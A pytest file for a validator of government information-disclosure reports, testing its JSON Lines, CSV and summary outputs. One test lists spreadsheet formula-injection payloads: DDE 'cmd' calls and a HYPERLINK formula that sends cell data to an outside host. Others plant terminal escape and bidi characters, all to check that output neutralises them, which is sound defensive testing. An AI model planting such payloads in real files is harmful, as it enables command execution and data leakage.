"""Many reports at once: JSON Lines, the table for spreadsheets, and what all reports come to."""

import copy
import csv
import io
import itertools
import json
import pickle
import re
import subprocess
import sys
from collections import Counter
from collections.abc import Iterable
from decimal import Decimal
from pathlib import Path

import jsonschema
import jsonschema_rs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import gidar
from cases import DIST, ROOT, load, package_of
from conftest import Run
from gidar.cli.terminal import safe
from gidar.conversion.blank import blank
from gidar.inputs.json_text import report_from, report_from_mapping
from gidar.model.report import Doubt, Location, Report
from gidar.model.result import Result
from gidar.model.words import counted
from gidar.reporters import Summary, reporter
from gidar.reporters import csv as spreadsheet
from gidar.reporters import summary as counts
from gidar.reporters.grouping import coverage, location, totals

EXAMPLES = ("examples/*.json", "examples/*-2024")
FAULTY, VALID, PUBLISHED = "examples/faulty-2024", "examples/shuangyashan-2024.json", "examples/hongze-2023.json"
SCHEMA = json.loads((DIST / gidar.editions()[-1] / "result.schema.json").read_text(encoding="utf-8"))
FORMULA = re.compile(r"(?:^|[;,\t|])[ \"]*[=+\-@|＝＋－＠｜\t\r\n]")
MARK = "\ufeff"


@pytest.fixture(scope="module")
def validated(tmp_path_factory: pytest.TempPathFactory) -> list[tuple[Report, Result]]:
    """Every case of the conformance suite, read and validated."""
    found = []
    for at, case in enumerate(load()):
        if case.is_json:
            data = case.json_bytes()
            reports = [report_from(data, f"cases/{at}/report.json", len(data))]
        else:
            folder = tmp_path_factory.mktemp("case")
            for name, data in (case.package() or {}).items():
                (folder / name).write_bytes(data)
            reports = [*gidar.read(folder)]
        found += [(report, gidar.validate(report, case.previous(), case.children())) for report in reports]
    return found


def summed(results: Iterable[Result]) -> Summary:
    summary = Summary()
    for result in results:
        summary.add(result)
    return summary


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix(MARK))))


# ---- JSON Lines -----------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_line_obeys_the_schema_on_every_case(validated: list[tuple[Report, Result]], lang: str) -> None:
    published = jsonschema_rs.Registry([(SCHEMA["$id"], SCHEMA)])
    line_of = jsonschema_rs.validator_for({"$ref": f"{SCHEMA['$id']}#/$defs/line"}, registry=published)
    lines_to = reporter("jsonl", lang, True, False)
    for report, result in validated:
        [line] = lines_to.result(result, report)
        assert "\n" not in safe(line)
        record = json.loads(safe(line))
        line_of.validate(record)
        assert record == result.to_dict(lang)
    [line] = lines_to.end(Summary(), [gidar.InputError("missing", "x")])
    line_of.validate(json.loads(line))
    for wrong in ({}, {"source": "x"}, {**json.loads(line), "valid": True}):
        assert not line_of.is_valid(wrong)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_lines_are_the_records_of_the_document(gidar_cli: Run, lang: str) -> None:
    paths = (*EXAMPLES, "missing.json")
    done = gidar_cli("validate", *paths, "--format", "jsonl", "--lang", lang)
    document = json.loads(gidar_cli("validate", *paths, "--format", "json", "--lang", lang).stdout)
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert done.returncode == 2 and len(document["reports"]) > 3
    assert lines == document["reports"] + document["unreadable"]
    assert gidar_cli("validate", VALID, "--format", "jsonl").returncode == 0
    assert gidar_cli("validate", PUBLISHED, "--format", "jsonl").returncode == 1


def test_a_line_is_there_as_soon_as_it_is_written() -> None:
    """A process that ends without tidying up has still handed over what it wrote."""
    code = "import os; from gidar.cli.terminal import write; write(['a line']); os._exit(0)"
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, encoding="utf-8", timeout=60)
    assert done.stdout == "a line\n"


# ---- the table for spreadsheets ---------------------------------------------------------------------


def test_the_table_has_a_line_a_finding_on_every_case(validated: list[tuple[Report, Result]]) -> None:
    to = reporter("csv", "en", True, False)
    lines = [*to.begin(), *(line for report, result in validated for line in to.result(result, report))]
    rows = table("\n".join(map(safe, lines)))
    found = [(result, finding) for _, result in validated for finding in result.findings]
    unchecked = [row for row in rows if row["severity"] == "checked"]
    rows = [row for row in rows if row["severity"] != "checked"]
    incomplete = [result for _, result in validated if result.edition and not result.checked.complete]
    assert len(rows) == len(found) and len(unchecked) == len(incomplete) > 100
    for row, result in zip(unchecked, incomplete, strict=True):
        unusable = result.checked.of_cells - result.checked.cells
        cells = f"{result.checked.of_cells} cells" + (f", {unusable} cannot" if unusable else " are blank or")
        assert cells in row["message"] and not row["code"]
    for row, (result, finding) in zip(rows, found, strict=True):
        assert None not in row and list(row) == list(spreadsheet.COLUMNS)
        assert (row["code"], row["severity"], row["edition"]) == (
            finding.code,
            finding.severity,
            result.edition or "",
        )
        assert row["outcome"] == (finding.outcome or "")
        assert [row[side] and Decimal(row[side]) for side in ("left", "right", "difference")] == [
            "" if side is None else side for side in (finding.left, finding.right, finding.difference)
        ]
        assert len(row["pointers"].split(" ")) >= len(finding.cells)
        places = {(*cell[1:4], cell.label and cell.label["en"]) for cell in finding.cells if cell.source is None}
        shown = {tuple(part.replace("\n", "\ufffd") if part else None for part in told) for told in places}
        assert (*place(row), row["label"] or None) in shown
    rules = {code: rule for edition in gidar.editions() for code, rule in gidar.load_edition(edition).rules.items()}
    codes = {code for code, rule in rules.items() if rule.data["area"] != "corpus"}
    assert {row["code"] for row in rows} == codes


def place(row: dict[str, str]) -> tuple[str | None, ...]:
    return tuple(row[name] or None for name in ("table", "row", "column"))


def test_the_table_of_the_command_line(gidar_cli: Run) -> None:
    done = gidar_cli("validate", FAULTY, VALID, "missing.json", "--format", "csv", encoding=None)
    text = done.stdout.decode("utf-8")
    assert done.returncode == 2 and text.startswith(MARK) and text.count(MARK) == 1
    head, *rows = csv.reader(io.StringIO(text.removeprefix(MARK)))
    assert head[:6] == ["来源", "机关", "年度", "格式", "级别", "规则代码"] and len(set(head)) == len(head)
    assert {len(row) for row in rows} == {len(head)} == {len(spreadsheet.COLUMNS)}
    assert Counter(row[4] for row in rows) == {"错误": 6, "警告": 3, "核对情况": 1, "无法读取": 1}
    english = table(gidar_cli("validate", FAULTY, "missing.json", "--format", "csv", "--lang", "en").stdout)
    [total] = [row for row in english if row["code"] == "review-and-litigation-total"]
    known = {name: total[name] for name in ("source", "organ", "year", "edition", "severity")}
    assert known == {
        "source": "examples/faulty-2024/datapackage.json#example",
        "organ": "示例县人民政府",
        "year": "2024",
        "edition": "2021",
        "severity": "error",
    }
    assert place(total) == ("review_and_litigation", "reconsideration", "total")
    names = ("file", "line", "field", "value", "instance", "outcome", "left", "right", "difference")
    expected = ["review_and_litigation.csv", "2", "total", "0", "reconsideration", "fails", "37", "0", "37"]
    assert [total[name] for name in names] == expected
    assert total["pointers"].split()[-1] == "/tables/review_and_litigation/reconsideration/total"
    assert len(total["pointers"].split()) == 5 and total["basis"] and total["message"]
    unreadable = english[-1]
    assert {name for name, value in unreadable.items() if value} == {"source", "severity", "message"}
    assert (unreadable["source"], unreadable["severity"]) == ("missing.json", "unreadable")


HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
    "－1",
    "＠x",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    '"\n=1+1,"=1+1',
    'a";=1+1;"b',
    "a; -1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "-",
    "|cmd",
    "|=1",
    "｜=1",
    'x;"=1+1',
    "x|=1+1",
    "x\t=1+1",
    "x, @SUM(1)",
    'x|"" |=1',
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_no_text_of_a_report_is_a_formula(gidar_cli: Run, tmp_path: Path, example: dict, text: str, lang: str) -> None:
    hostile = json.loads(json.dumps(example))
    hostile["organ"] = {"name": text, "code": text, "region": text}
    hostile["narrative"]["overview"] = None
    hostile["published"] = text
    hostile[text] = hostile["tables"][text] = hostile["tables"]["requests"][text] = {text: text}
    hostile["tables"]["documents"]["rules"]["issued"] = text
    hostile["tables"]["requests"]["received"]["total"] = -3
    (tmp_path / "r.json").write_text(json.dumps(hostile), encoding="utf-8")
    path = tmp_path / "r.json"
    done = gidar_cli("validate", path, "--format", "csv", "--lang", lang)
    assert done.returncode == 1 and done.stderr == ""
    _, *rows = csv.reader(io.StringIO(done.stdout.removeprefix(MARK)))
    assert len(rows) > 6 and {len(row) for row in rows} == {len(spreadsheet.COLUMNS)}
    assert len(rows) == len(done.stdout.splitlines()) - 1
    for row in rows:
        for name, cell in zip(spreadsheet.COLUMNS, row, strict=True):
            figure = name in ("value", "left", "right", "difference") and re.fullmatch(r"-?[0-9.]+", cell)
            assert figure or not FORMULA.search(cell), (name, cell)
    negative = [dict(zip(spreadsheet.COLUMNS, row, strict=True)) for row in rows]
    assert [row["value"] for row in negative if row["code"] == "cell-negative"] == ["-3"]


@settings(deadline=None)
@given(st.text())
def test_text_stays_readable_and_harmless(text: str) -> None:
    line = safe(spreadsheet._line([text, -5, Decimal("-1.50"), True, None]))
    [[shown, *rest]] = csv.reader(io.StringIO(line))
    assert rest == ["-5", "-1.50", "true", ""]
    assert not FORMULA.search(shown)
    assert re.sub("['�]", "", shown) == "".join(c for c in text if c.isprintable() and c not in "'�")


def test_figures_stay_figures_and_texts_that_look_like_them_do_not() -> None:
    assert spreadsheet._shown(-12) == "-12" and spreadsheet._shown("-12") == "'-12"
    assert spreadsheet._shown(Decimal("-0.5")) == "-0.5"
    assert spreadsheet._shown(-(10**60)).startswith("'-1000")  # cut short, and so no figure any more
    assert len(spreadsheet._shown("x" * 100_000)) <= 32_767


def test_files_and_headings_are_as_hostile_as_reports(gidar_cli: Run, tmp_path: Path) -> None:
    """Headings and keys of a package, and names of files."""
    folder = tmp_path / "=cmd"
    folder.mkdir()
    for file in (ROOT / FAULTY).iterdir():
        text = file.read_text(encoding="utf-8")
        (folder / file.name).write_text(text.replace("decisions", "+decisions"), encoding="utf-8")
    done = gidar_cli("validate", "=cmd", "@none.json", "--format", "csv", "--lang", "en", cwd=tmp_path)
    rows = table(done.stdout)
    assert rows[0]["source"].startswith("'=cmd") and rows[-1]["source"] == "'@none.json"
    assert {"'+decisions"} <= {row["field"] for row in rows}
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())


def test_last_years_cells_are_named_with_their_report(gidar_cli: Run, tmp_path: Path) -> None:
    """The place to look at is in the report that was validated, although the equation ends in last year's."""
    case = next(case for case in load() if any(item["code"] == "carry-over" for item in case.case["expect"]))
    previous = case.previous()
    assert previous is not None
    for name, report in (("now", case.report()), ("before", previous)):
        (tmp_path / name).mkdir()
        for file, data in (package_of(report, case.edition) or {}).items():
            (tmp_path / name / file).write_bytes(data)
    command = ("validate", "now", "--previous", "before", "--lang", "en")
    rows = table(gidar_cli(*command, "--format", "csv", cwd=tmp_path).stdout)
    [row, *_] = [row for row in rows if row["code"] == "carry-over"]
    lines = (tmp_path / "now/requests.csv").read_text(encoding="utf-8").splitlines()
    assert place(row)[:2] == ("requests", "carried_in") and row["file"] == "requests.csv"
    assert lines[int(row["line"]) - 1].startswith("1,carried_in,")
    own, last = row["pointers"].split()
    assert own.startswith("/tables/requests/carried_in/")
    assert last.startswith("before/datapackage.json#1#/tables/requests/carried_forward/")
    annotations = gidar_cli(*command, "--format", "github", cwd=tmp_path).stdout
    head = rf"::error file=now/requests.csv,line={row['line']}"
    assert re.search(head + r",title=Requests.+ \(carry-over\)::", annotations)


# ---- the summary --------------------------------------------------------------------------------------


def independent(results: list[Result]) -> dict[str, object]:
    """What a summary has to say, counted another way."""
    errors = {id(r): sum(f.severity == "error" for f in r.findings) for r in results}
    warnings = {id(r): sum(f.severity == "warning" for f in r.findings) for r in results}
    rules = {(f.code, f.severity) for r in results for f in r.findings}
    concerned = [r for r in results if errors[id(r)] or warnings[id(r)]]
    return {
        "by_rule": {
            (code, severity): (
                sum((f.code, f.severity) == (code, severity) for r in results for f in r.findings),
                sum(any((f.code, f.severity) == (code, severity) for f in r.findings) for r in results),
            )
            for code, severity in rules
        },
        "by_year": {
            year: (sum(r.year == year for r in results), sum(r.year == year and r.valid for r in results))
            for year in {r.year for r in results}
        },
        "by_organ": {
            organ: tuple(
                sum(value(r) for r in concerned if r.organ == organ)
                for value in (lambda r: 1, lambda r: errors[id(r)], lambda r: warnings[id(r)])
            )
            for organ in {r.organ for r in concerned}
        },
        "first": sorted(((errors[id(r)], warnings[id(r)]) for r in concerned), reverse=True)[:20],
    }


def test_the_summary_counts_what_there_is(validated: list[tuple[Report, Result]]) -> None:
    results = [
        result._replace(organ=f"甲{at % 37}县", year=result.year if at % 11 else None, source=f"{at}")
        for at, (_, result) in enumerate(validated)
        if result.year is None or 1000 <= result.year <= 9999
    ]
    found, expected = summed(results).to_dict(), independent(results)
    jsonschema.Draft202012Validator({**SCHEMA["properties"]["summary"], "$defs": SCHEMA["$defs"]}).validate(found)
    assert {(r["code"], r["severity"]): (r["findings"], r["reports"]) for r in found["by_rule"]} == expected["by_rule"]
    assert {r["year"]: (r["reports"], r["valid"]) for r in found["by_year"]} == expected["by_year"]
    assert [r["year"] for r in found["by_year"]][-1] is None
    organs = {r["organ"]: (r["reports"], r["errors"], r["warnings"]) for r in found["by_organ"]}
    assert organs == expected["by_organ"] and found["organs"] == len(organs) and found["organs_exact"] is True
    assert [(r["errors"], r["warnings"]) for r in found["first"]] == expected["first"]
    order = [(r["errors"], r["warnings"]) for r in found["by_organ"]]
    assert order == sorted(order, reverse=True)
    verdicts = [result.verdict for result in results]
    assert {name: found[name] for name in set(verdicts)} == Counter(verdicts) and len(set(verdicts)) == 3
    assert found["cells_not_checked"] == sum(r.checked.of_cells - r.checked.cells for r in results) > 0
    assert found["equations_not_checked"] == sum(r.checked.of_equations - r.checked.equations for r in results) > 0
    assert sum(found["by_code"].values()) == found["errors"] + found["warnings"] + found["infos"]


@settings(deadline=None)
@given(st.data())
def test_in_whatever_order_and_by_however_many_processes(
    validated: list[tuple[Report, Result]], data: st.DataObject
) -> None:
    chosen = data.draw(st.lists(st.integers(0, len(validated) - 1), max_size=60))
    results = [
        validated[at][1]._replace(source=f"{n}", organ=f"{at % 5}" if at % 6 else None) for n, at in enumerate(chosen)
    ]
    shares = data.draw(st.lists(st.integers(0, 3), min_size=len(results), max_size=len(results)))
    parts = [summed(r for r, share in zip(results, shares, strict=True) if share == part) for part in range(4)]
    merged = Summary()
    for part in data.draw(st.permutations(parts)):
        merged.merge(pickle.loads(pickle.dumps(part)))
    assert merged.to_dict() == summed(results).to_dict()


def test_a_plain_report_is_one_without_findings() -> None:
    [report] = gidar.read(ROOT / VALID)
    result, one, two = gidar.validate(report), Summary(), Summary()
    assert result.findings == ()
    for _ in range(3):
        one.add(result)
        two.plain(result.year)
    assert one.to_dict() == two.to_dict() and one.to_dict()["by_year"] == [{"year": 2024, "reports": 3, "valid": 3}]
    assert one.to_dict()["organs"] == 0 and one.first == []


def test_a_summary_stays_small_whatever_reports_name(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(counts, "ORGANS", 100)
    [report] = gidar.read(ROOT / PUBLISHED)
    result, summary = gidar.validate(report), Summary()
    for _ in range(3):
        summary.add(result._replace(organ="差错最多"))
    for n in range(100_000, 101_000):
        summary.add(result._replace(organ=f"{n}" * 1000, year=n, source=f"{n}"))
        assert len(summary.organs) <= 100
    found = summary.to_dict()
    assert found["by_organ"][0] == {"organ": "差错最多", "reports": 3, "errors": 6, "warnings": 63}
    assert found["organs_exact"] is False and len(found["by_organ"]) <= 100 and len(found["first"]) == 20
    assert [r["year"] for r in found["by_year"]] == [2023, None] and found["reports"] == 1003
    other = Summary()
    other.merge(summary)
    assert other.to_dict() == found
    [*lines] = reporter("text", "zh", False, False, summary=True).end(summary, [])
    assert any("机关过多" in line for line in lines) and max(map(len, lines)) < 300


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_summary_as_text(gidar_cli: Run, lang: str) -> None:
    from rich.cells import cell_len

    done = gidar_cli("validate", *EXAMPLES, "missing.json", "--summary", "--lang", lang)
    assert done.returncode == 2
    text = done.stdout
    head, (several, *unreadable) = {
        "zh": (
            "共11份报告，7份通过，0份未核对完，4份不通过；错误11处，警告182处，提示0处。各份报告（包括不通过的）合计：4栏没有核对；14条勾稽关系没有核对，或者因空白无法判断。",
            ["份报告（", "没有读取的文件：", "  - missing.json：找不到这个文件或文件夹"],
        ),
        "en": (
            "Reports: 11, valid: 7, incomplete: 0, not valid: 4; errors: 11, warnings: 182, infos: 0."
            " In all reports, whatever their verdict: 4 cells not checked;"
            " 14 cross-checks not checked, or undetermined because of blanks.",
            ["has 2 reports for 2024 (", "Files that were not read:", "  - missing.json: no such file or folder"],
        ),
    }[lang]
    first, told, *others = text.splitlines()[:4]
    assert [first, *others] == [head, *unreadable] and several in told
    rules = gidar.load_edition("2021").rules
    sections = [section.splitlines() for section in text.split("\n\n")[1:]]
    assert len(sections) == 5
    years, by_rule, organs, blanks, first = sections
    assert [line.split() for line in years[2:]] == [
        ["2019", "1", "0"],
        ["2020", "1", "0"],
        ["2023", "1", "0"],
        ["2024", "8", "7"],
    ]
    assert rules["requests-outcomes-total"].title[lang] in by_rule[2] and by_rule[2].split()[1:3] == ["3", "2"]
    assert organs[2].split() == ["6", "3", "1", "示例县人民政府"]
    assert sum(int(line.split()[0]) for line in blanks[2:]) == 168
    assert first[2].split() == ["6", "3", "2024", "示例县人民政府", "examples/faulty-2024/datapackage.json#example"]
    assert len({cell_len(line[: line.index(line.split()[-1])]) for line in first[2:]}) == 1  # aligned
    assert len({cell_len(line.removesuffix(line.split()[-1])) for line in by_rule[1:-1]}) == 1
    assert "None" not in text


def test_of_many_organs_the_rest_is_counted(gidar_cli: Run, tmp_path: Path, example: dict) -> None:
    lines = [{**example, "organ": {"name": f"第{n}县人民政府"}, "narrative": None} for n in range(25)]
    (tmp_path / "r.jsonl").write_text("\n".join(map(json.dumps, lines)), encoding="utf-8")
    text = gidar_cli("validate", tmp_path / "r.jsonl", "--summary").stdout
    assert "另有5个机关有错误或警告，用 --all 全部列出" in text
    everything = gidar_cli("validate", tmp_path / "r.jsonl", "--summary", "--all").stdout
    assert "另有" not in everything and everything.count("第24县人民政府") >= 1
    assert gidar_cli("validate", tmp_path / "r.jsonl", "--summary", "--strict").returncode == 1
    assert gidar_cli("validate", tmp_path / "r.jsonl", "--summary").returncode == 0


def test_the_summary_as_json(gidar_cli: Run) -> None:
    paths = (*EXAMPLES, "missing.json")
    short = json.loads(gidar_cli("validate", *paths, "--format", "json", "--summary").stdout)
    whole = json.loads(gidar_cli("validate", *paths, "--format", "json").stdout)
    jsonschema.Draft202012Validator(SCHEMA).validate(short)
    assert short["reports"] == [] and short == {**whole, "reports": []}
    assert short["summary"]["first"][0]["source"] == "examples/faulty-2024/datapackage.json#example"


@pytest.mark.parametrize("form", ["jsonl", "csv", "github"])
def test_other_formats_have_no_summary(gidar_cli: Run, form: str) -> None:
    for lang, words in (("zh", "--summary 只能与"), ("en", "--summary can only be used with")):
        done = gidar_cli("validate", VALID, "--format", form, "--summary", "--lang", lang)
        assert (done.returncode, done.stdout) == (2, "") and words in done.stderr


def test_nothing_that_a_terminal_obeys_in_a_summary(gidar_cli: Run, tmp_path: Path, example: dict) -> None:
    hostile = {**example, "organ": {"name": "\x1b[31m红\u202e\n错误"}, "narrative": None}
    (tmp_path / "r.json").write_text(json.dumps(hostile), encoding="utf-8")
    for args in ((), ("--format", "json")):
        text = gidar_cli("validate", tmp_path / "r.json", "--summary", *args).stdout
        assert "\x1b" not in text and "\u202e" not in text and "红" in text


@pytest.mark.parametrize(("lang", "words"), [("zh", "（因空白无法判断）"), ("en", " (undetermined because of blanks)")])
@pytest.mark.parametrize("options", [(), ("--summary",), ("--format", "html"), ("--summary", "--format", "html")])
def test_what_blanks_leave_open_is_not_said_to_fail(
    gidar_cli: Run, tmp_path: Path, example: dict, lang: str, words: str, options: tuple[str, ...]
) -> None:
    example = copy.deepcopy(example)
    for figures in example["tables"]["requests"].values():
        figures["total"] = None
    (path := tmp_path / "report.json").write_text(json.dumps(example), encoding="utf-8")
    out = gidar_cli("validate", path, "--lang", lang, *options).stdout
    rule = gidar.load_edition("2021").rules["requests-applicants-total"]
    assert out.count(rule.title[lang]) == out.count(rule.title[lang] + words) > 0


OF_FILES = {
    "byte-order-mark",
    "schema-edition",
    "table-missing",
    "row-missing",
    "column-missing",
}  # of data files alone


def test_what_concerns_documents_names_no_file_of_data() -> None:
    """Of a Word file or a workbook, nobody is told of JSON or of reports.csv."""
    for edition in gidar.editions():
        for code, rule in gidar.load_edition(edition).rules.items():
            if rule.data["area"] != "package" and code not in OF_FILES:
                said = [*(rule.message or {}).values(), *rule.data["advice"].values()]
                assert not [text for text in said if re.search("JSON|CSV|reports[.]csv", text)], code


@pytest.mark.parametrize(
    ("file", "zh", "en"),
    [
        ("a.docx#table=2&row=28&column=3", "a.docx 第2张表第28行第3格", "a.docx table 2, row 28, cell 3"),
        ("a.pdf#page=3", "a.pdf 第3页", "a.pdf page 3"),
        ("a.xlsx#表1!B9", "a.xlsx 工作表“表1”B9", "a.xlsx sheet “表1”, B9"),
        ("a#b=1.csv", "a#b=1.csv", "a#b=1.csv"),
    ],
)
def test_places_in_documents_are_said_in_words(example: dict, file: str, zh: str, en: str) -> None:
    example["tables"]["requests"]["received"]["total"] = None
    pointer = "/tables/requests/received/total"
    result = gidar.validate(Report(example, "a", places={pointer: Location(file)}))
    [blank] = [found for found in result.findings if found.code == "cell-blank"]
    assert [location(blank, lang) for lang in ("zh", "en")] == [f"（{zh}）", f" ({en})"]


@pytest.mark.parametrize("counts", [*itertools.product((0, 3), repeat=2)])
def test_there_is_none_of_is_not_counted(counts: tuple[int, int]) -> None:
    told = counted(dict(zip(("dataset.places_unread", "dataset.places_likely"), counts, strict=True)), "zh")
    assert ("没有读出" in told, "存疑" in told) == tuple(map(bool, counts)) and "0" not in told
    summary = Summary()
    (summary.cells, summary.equations), (summary.waived, summary.known) = counts, reversed(counts)
    after = totals(summary, "zh").partition("提示0处。")[2]
    assert "0" not in after and after.count("3") == 2 * len([*filter(None, counts)])


def test_blank_tables_of_one_cell_are_named_among_the_others() -> None:
    edition = gidar.load_edition()
    report = blank(edition, "示例县人民政府", 2024, None).data
    said = coverage(gidar.validate(report_from_mapping(report)), "zh")
    assert all(table.label["zh"] in said for table in edition.tables.values())
    report["tables"]["licensing"]["administrative_licences"]["decisions"] = 0
    said = coverage(gidar.validate(report_from_mapping(report)), "zh")
    assert [table.id for table in edition.tables.values() if table.label["zh"] not in said] == ["licensing"]


@pytest.mark.parametrize("place", ["/organ/name", "/year", "/tables/fees"])
def test_how_to_supply_what_a_document_lacks_is_said_where_it_does(example: dict, place: str) -> None:
    report = report_from_mapping(example)._replace(doubts={place: Doubt(True, "figure")})
    text = "\n".join(reporter("text", "zh", False, False).result(gidar.validate(report), report))
    assert "对原文档运行 gidar extract，查看各处的读取情况" in text and ("--organ" in text) == (place != "/tables/fees")
